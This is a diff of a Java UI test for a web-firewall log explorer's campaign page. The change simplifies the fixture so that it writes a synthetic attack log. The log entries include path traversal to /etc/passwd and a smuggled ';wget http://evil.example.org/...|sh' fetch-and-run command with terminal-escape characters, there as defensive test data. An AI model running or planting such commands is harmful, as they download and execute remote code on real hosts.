@@ -14,31 +14,16 @@ import javafx.scene.input.KeyCode;
 import org.junit.jupiter.api.Test;
 import org.modsecexplorer.advise.campaign.Campaign;
 import org.modsecexplorer.cli.AttackLog;
-import org.modsecexplorer.ingest.ImportRequest;
-import org.modsecexplorer.ingest.Importer;
-import org.modsecexplorer.ingest.report.CancelSignal;
-import org.modsecexplorer.ingest.report.ImportListener;
-import org.modsecexplorer.store.Store;
-import org.modsecexplorer.store.StoreLocation;
-import org.modsecexplorer.ui.frame.Pictures;
-import org.modsecexplorer.ui.frame.PicturesTest;
-import org.modsecexplorer.ui.frame.TestDesk;
-import org.modsecexplorer.ui.frame.WindowCase;
-import org.testfx.util.WaitForAsyncUtils;
+import org.modsecexplorer.ui.frame.PageCase;
 
 /** The page with campaigns: the list, why clients are one, and the ways to their requests and to the deny list. */
-class CampaignPageTest extends WindowCase {
+class CampaignPageTest extends PageCase {
 
     private static final int ENTRIES = 110;
 
-    @Override
-    protected boolean startsFilled() {
-        return false;
-    }
-
     /** Sixty unrelated scanners, a campaign of thirty addresses of which one got through, and one of twenty with a hostile text. */
     @Override
-    protected void prepare(TestDesk fresh) {
+    protected Path write(Path folder) {
         AttackLog log = new AttackLog();
         for (int i = 0; i < 60; i++) {
             log.entry("198.51.100." + i, 1 + i / 6, i % 6 * 200, "/own" + i + ".php", "curl/8." + i, 403, "930120 ARGS:f /own/" + i + "/../../etc/passwd");
@@ -50,12 +35,7 @@ class CampaignPageTest extends WindowCase {
             log.entry("192.0.2." + i, 14, 300 + i, "/<b>" + "long".repeat(60), "x\\x1b[2J<b>", 403, "932100 ARGS:q \\u202e<b>;wget http://evil.example.org/" + "9".repeat(200) + "|sh");
         }
         try {
-            Path folder = Files.createTempDirectory(temporary, "campaign");
-            StoreLocation location = StoreLocation.embedded(folder.resolve("campaign.duckdb"));
-            try (Store store = Store.open(location)) {
-                new Importer(store).run(ImportRequest.of(Files.writeString(folder.resolve("audit.log"), log.text())), ImportListener.NONE, new CancelSignal());
-            }
-            fresh.useStore(location);
+            return Files.writeString(folder.resolve("audit.log"), log.text());
         } catch (IOException e) {
             throw new UncheckedIOException(e);
         }
@@ -73,14 +53,6 @@ class CampaignPageTest extends WindowCase {
 
     private TableView<Campaign> campaigns() {
         return find("#campaign-table");
-    }
-
-    private void draw(String name) {
-        WaitForAsyncUtils.waitForFxEvents();
-        robot.interact(() -> {
-            Pictures.save(stage.getScene(), name, 1);
-            PicturesTest.assertNothingIsCut(stage.getScene().getRoot(), name);
-        });
     }
 
     @Test
